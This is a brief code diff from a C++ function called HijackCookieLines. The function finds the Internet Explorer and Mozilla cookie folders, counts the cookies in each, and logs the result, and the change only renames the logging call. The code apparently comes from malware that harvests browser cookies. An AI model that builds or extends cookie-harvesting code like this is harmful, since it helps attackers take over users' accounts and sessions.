@@ -8,11 +8,11 @@ void HijackCookieLines(std::string& log)
     char folder[MAX_PATH];
     if (FindIECookieFolder(folder)) {
         int count = CookieScanFor(0, 0);
-        AppendF(log, "%d IE Cookies in Folder: %s\r\n", count, folder);
+        AppendLineF(log, "%d IE Cookies in Folder: %s\r\n", count, folder);
     }
     if (FindMozillaProfileFolder(folder)) {
         int count = CookieScanFor(1, 0);
-        AppendF(log, "%d Mozilla Cookies in Folder: %s\r\n", count, folder);
+        AppendLineF(log, "%d Mozilla Cookies in Folder: %s\r\n", count, folder);
     }
 }
 
